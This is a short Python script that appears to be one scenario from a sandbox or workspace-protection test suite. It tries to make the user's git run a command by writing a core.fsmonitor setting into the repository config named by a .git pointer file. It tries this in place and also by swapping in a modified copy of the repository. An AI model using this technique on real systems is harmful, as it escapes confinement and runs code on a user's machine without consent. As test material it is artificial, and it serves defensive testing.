# name: have the user's git run a command: the repository in the workspace that a file .git names is changed
# line: 69
# control: protected
# workspace: git file
# play: git status outside
import os
import shutil

from attack import STAGE, append, planted

CONFIG = f"[core]\n\tfsmonitor = \"id > {STAGE['home']}/ran-by-git; false\"\n"
with open(".git", encoding="utf-8") as pointer:
    repository = pointer.read().strip().removeprefix("gitdir: ")


def in_place():
    append(f"{repository}/config", CONFIG)


def by_another():
    """A copy with another configuration takes the place of the repository."""
    shutil.copytree(repository, "copy")
    append("copy/config", CONFIG)
    os.rename(repository, "moved")
    os.rename("copy", repository)


for act in (in_place, by_another):
    try:
        act()
    except OSError as error:
        # One of the two ways may fail. The attack succeeds if the user's git uses what was written.
        print(error)
planted("the configuration of the repository names a command")
